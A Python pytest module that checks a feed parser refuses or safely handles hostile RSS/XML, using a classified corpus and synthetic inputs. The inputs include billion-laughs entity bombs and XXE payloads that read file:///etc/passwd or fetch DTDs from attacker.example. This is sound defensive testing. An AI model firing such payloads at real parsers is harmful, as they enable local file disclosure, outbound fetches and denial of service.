"""Every hostile feed of tests/data/corpora parses or is refused with a reason, without blowing up.

Each corpus file starts with a ``Description`` / ``Expect`` comment written for feedparser's own
harness. We do not evaluate those expressions (they assume feedparser's raw output and its
encoding choices); :data:`EXPECTED` restates, per file, what *our* pipeline must make of it,
taking the comment into account. A new file in the folder fails the test until it is
classified here.
"""

from __future__ import annotations

import gzip
import random
import tracemalloc
from pathlib import Path
from typing import NamedTuple

import pytest

from communique.errors import ParseError
from communique.feeds.entries import MAX_ENTRIES, ParsedFeed
from communique.feeds.parsing import parse_feed
from communique.feeds.rss import MAX_ATTRIBUTES
from tests.support.corpora import corpus
from tests.support.loopback import loopback_only

HOSTILE = corpus("hostile_feeds")
URL = "https://hostile.example/feed.xml"
MEMORY_LIMIT = 64 * 1024 * 1024


class Parses(NamedTuple):
    entries: int = 0
    skipped: int = 0
    bozo: bool | None = None  # None: either way
    encoding: str | None = None
    title: str | None = None


class Refused(NamedTuple):
    reason: str


PREFIX = "feedparser__"
EXPECTED: dict[str, Parses | Refused] = {
    "encoding__bozo_bogus_encoding.xml": Parses(),  # unknown label ignored: plain ASCII decodes fine
    "encoding__bozo_double-encoded-html.xml": Parses(skipped=1, bozo=True),  # &acirc; is not XML
    "encoding__bozo_encoding_mismatch_crash.xml": Parses(skipped=1),
    "encoding__bozo_http_text_plain.xml": Parses(),
    "encoding__bozo_invalid-bytes-with-bom.xml": Parses(bozo=True),
    "encoding__bozo_linenoise.xml": Parses(skipped=1),
    "encoding__demoronize-1.xml": Parses(skipped=1, bozo=False),
    "encoding__double-encoded-html.xml": Parses(skipped=1, bozo=False),
    "encoding__encoding_attribute_crash.xml": Parses(skipped=1),
    "encoding__encoding_attribute_crash_2.xml": Parses(skipped=1),
    "encoding__euc-kr-item.xml": Parses(skipped=1, bozo=False, encoding="euc_kr"),
    "encoding__http_encoding_attribute_crash.xml": Parses(skipped=1, bozo=False),
    "encoding__utf-16le-autodetect.xml": Parses(bozo=False, encoding="utf-16-le"),
    "encoding__utf-32be-bom.xml": Parses(bozo=False, encoding="utf-32-be"),
    "illformed__aaa_illformed.xml": Parses(bozo=True),
    "illformed__always_strip_doctype.xml": Parses(bozo=False, title="found"),
    "illformed__chardet__big5.xml": Parses(encoding="big5"),
    "illformed__chardet__eucjp.xml": Parses(skipped=1, encoding="euc_jp"),
    "illformed__chardet__euckr.xml": Parses(skipped=1, encoding="euc_kr"),
    "illformed__chardet__gb2312.xml": Parses(skipped=1, encoding="gb2312"),
    "illformed__chardet__koi8r.xml": Parses(skipped=1, encoding="koi8-r"),
    "illformed__chardet__shiftjis.xml": Parses(skipped=1, encoding="shift_jis"),
    "illformed__chardet__tis620.xml": Parses(skipped=1, encoding="tis-620"),
    "illformed__chardet__windows1255.xml": Parses(skipped=1, encoding="cp1255"),
    "illformed__http_high_bit_date.xml": Parses(),
    "illformed__rdf_channel_empty_textinput.xml": Parses(skipped=1, bozo=True),
    "illformed__rss_empty_document.xml": Refused("empty"),
    "illformed__rss_incomplete_cdata.xml": Parses(skipped=1, bozo=True, title="can feedparser read this xml"),
    "illformed__rss_item_link_corrupted_ampersands.xml": Parses(entries=1, bozo=True),
    "illformed__undeclared_namespace.xml": Parses(bozo=True),
    "wellformed__http__headers_etag.xml": Parses(bozo=False),
    # feedparser expands these entities; we refuse any entity declaration before parsing.
    "wellformed__rdf__doctype_contains_entity_decl.xml": Refused("entity_declaration"),
    "wellformed__rss__entity_in_doctype.xml": Refused("entity_declaration"),
    "wellformed__sanitize__entry_content_crazy.xml": Parses(skipped=1, bozo=False),
    "wellformed__sanitize__entry_content_script_base64.xml": Parses(skipped=1, bozo=False),
}


def _hostile_files() -> list[Path]:
    return sorted(HOSTILE.glob("*.xml"))


def _parse_bounded(content: bytes, content_type: str | None = None) -> ParsedFeed | ParseError:
    """Parse, returning the refusal instead of raising; fail on any other exception or on memory."""
    tracemalloc.start()
    try:
        try:
            return parse_feed(content, url=URL, content_type=content_type)
        except ParseError as refused:
            return refused
    finally:
        peak = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
        assert peak < MEMORY_LIMIT, f"{peak} bytes used"


def _header(path: Path) -> str | None:
    """The ``Header: Content-type: ...`` a corpus file asks to be served with, if any."""
    for line in path.read_bytes()[:600].decode("latin-1").splitlines():
        if line.strip().lower().startswith("header:") and "content-type" in line.lower():
            return line.split(":", 2)[2].strip()
    return None


def test_every_corpus_file_is_classified() -> None:
    names = {p.name.removeprefix(PREFIX) for p in _hostile_files()}
    assert names == set(EXPECTED)


@pytest.mark.timeout(20)
@pytest.mark.parametrize("path", _hostile_files(), ids=lambda p: p.name.removeprefix(PREFIX))
def test_hostile_corpus_file(path: Path) -> None:
    expected = EXPECTED[path.name.removeprefix(PREFIX)]
    outcome = _parse_bounded(path.read_bytes(), _header(path))
    if isinstance(expected, Refused):
        assert isinstance(outcome, ParseError), "expected a refusal"
        assert outcome.reason == expected.reason
        return
    assert isinstance(outcome, ParsedFeed), f"refused: {outcome}"
    assert (len(outcome.entries), len(outcome.skipped)) == (expected.entries, expected.skipped)
    if expected.bozo is not None:
        assert (outcome.bozo_reason is not None) == expected.bozo, outcome.bozo_reason
    if expected.encoding is not None:
        assert outcome.encoding == expected.encoding
    if expected.title is not None:
        assert outcome.title == expected.title


def _with_link(name: str) -> bytes:
    """A corpus file whose first item or entry gets a link, so its text reaches an entry."""
    data = (HOSTILE / f"{PREFIX}{name}").read_bytes()
    data = data.replace(b"<item>", b"<item><link>https://hostile.example/1</link>", 1)
    return data.replace(b"<entry>", b"<entry><link href='https://hostile.example/1'/>", 1)


@pytest.mark.parametrize(
    ("name", "summary"),
    [
        ("encoding__demoronize-1.xml", "don’t"),  # windows-1252 bytes inside UTF-8 repaired
        ("encoding__double-encoded-html.xml", "…"),
        ("encoding__bozo_double-encoded-html.xml", "…"),
        ("encoding__euc-kr-item.xml", "년"),
        ("wellformed__sanitize__entry_content_script_base64.xml", "safe description"),  # script dropped
        (
            "wellformed__sanitize__entry_content_crazy.xml",
            "Did The Javascript Execute? I will execute here, too, if you mouse over me",
        ),
    ],
)
def test_hostile_text_comes_out_clean(name: str, summary: str) -> None:
    parsed = parse_feed(_with_link(name), url=URL)
    assert parsed.entries[0].summary == summary


def test_corrupted_ampersands_in_links() -> None:
    parsed = parse_feed((HOSTILE / f"{PREFIX}illformed__rss_item_link_corrupted_ampersands.xml").read_bytes(), url=URL)
    assert parsed.entries[0].url == "http://link/get?a=1&b=2"


# --- shapes the corpus lacks: each must be refused or parsed, quickly and in bounded memory -----------


def _synthetic() -> dict[str, tuple[bytes, str | None]]:
    """name -> (document, expected refusal reason or None when it must parse)."""
    attributes = b" ".join(b'a%d="1"' % i for i in range(5000))
    return {
        "billion_laughs": (
            b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
            + b"".join(b'<!ENTITY lol%d "%s">' % (i, b"&lol%d;" % (i - 1) * 10) for i in range(1, 10))
            + b"]><rss><channel><title>&lol9;</title></channel></rss>",
            "entity_declaration",
        ),
        "xxe_parameter_entity": (
            b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd">%p;]><rss/>',
            "entity_declaration",
        ),
        "deep_nesting": (
            b"<rss><channel>" + b"<a>" * 100_000 + b"</a>" * 100_000 + b"</channel></rss>",
            "too_complex",
        ),
        "unclosed_nesting": (b"<rss><channel><item>" + b"<div>" * 50_000, "too_complex"),
        "attribute_flood": (b"<rss " + attributes + b"><channel/></rss>", "too_complex"),
        "tag_flood_loose": (b"<rss><channel>&" + b"<x/>" * 200_000, "too_complex"),
        "angle_bracket_flood": (b"<rss><channel>" + b"<" * 2_000_000, "too_complex"),
        "unterminated_comment": (b"<rss><channel><!--" + b"x" * 2_000_000, None),
        "comment_openers": (b"<rss>" + b"<!--" * 20_000, None),
        "giant_title": (
            b"<rss><channel><item><link>https://x.example/1</link><title>"
            + b"word " * 400_000
            + b"</title></item></channel></rss>",
            None,
        ),
        "random_bytes": (random.Random(5).randbytes(200_000), "malformed"),
        "gzip_bytes_unexpanded": (gzip.compress(b"<rss/>" * 1000), "empty"),
        "nul_bytes": (
            b"<rss>\0\0<channel><item><link>https://x.example/1</link></item></channel></rss>",
            None,
        ),
        "json_feed": (b'{"version": "https://jsonfeed.org/version/1.1", "items": []}', "not_a_feed"),
        # feedparser's handlers raise KeyError on this shape; it must come out as a refusal
        "textinput_in_item": (
            b"<rss><channel><item><textInput><title>q</title><link>https://x.example/q</link></textInput>"
            b"</item></channel></rss>",
            "malformed",
        ),
        "crowded_tag_in_a_long_feed": (
            b"<rss><channel>"
            + b"<item><link>https://x.example/1</link></item>" * 600
            + b"<item "
            + b" ".join(b'a%d="1"' % i for i in range(MAX_ATTRIBUTES + 1))
            + b"/></channel></rss>",
            "too_complex",
        ),
        "busy_but_acceptable_tag": (
            b"<rss><channel><item "
            + b" ".join(b'a%d="1"' % i for i in range(MAX_ATTRIBUTES))
            + b"><link>https://x.example/1</link></item></channel></rss>",
            None,
        ),
        "too_many_entries": (
            b"<rss><channel>"
            + b"".join(b"<item><link>https://x.example/%d</link></item>" % i for i in range(MAX_ENTRIES + 5))
            + b"</channel></rss>",
            None,
        ),
    }


@pytest.mark.timeout(30)
@pytest.mark.parametrize("name", list(_synthetic()))
def test_synthetic_hostile_shapes(name: str) -> None:
    content, reason = _synthetic()[name]
    outcome = _parse_bounded(content)
    if reason is None:
        assert isinstance(outcome, ParsedFeed), f"refused: {outcome}"
    else:
        assert isinstance(outcome, ParseError) and outcome.reason == reason, outcome
    if name == "too_many_entries":
        assert isinstance(outcome, ParsedFeed)
        assert len(outcome.entries) == MAX_ENTRIES and {s.reason for s in outcome.skipped} == {"too_many_entries"}
    if name == "giant_title":
        assert isinstance(outcome, ParsedFeed) and len(outcome.entries[0].title) <= 1000


@pytest.mark.timeout(20)
@pytest.mark.parametrize(
    "prolog",
    [
        b'<!DOCTYPE rss [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>',
        b'<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
        b'<!DOCTYPE rss [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd">%p;]>',
        b'<!DOCTYPE rss SYSTEM "http://attacker.example/rss.dtd">',
        b"<!DOCTYPE rss>",
    ],
)
def test_no_dtd_reaches_feedparser(prolog: bytes) -> None:
    """Entity declarations are refused and a bare DOCTYPE is dropped: nothing is expanded or fetched."""
    document = b'<?xml version="1.0"?>' + prolog + b"<rss><channel><title>&b;&xxe;</title></channel></rss>"
    tracemalloc.start()
    try:
        with loopback_only():
            outcome = _parse_bounded(document)
        if b"ENTITY" in prolog:
            assert isinstance(outcome, ParseError) and outcome.reason == "entity_declaration"
        else:
            assert isinstance(outcome, ParsedFeed) and "aaaa" not in outcome.title and "root:" not in outcome.title
    finally:
        peak = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
    assert peak < MEMORY_LIMIT
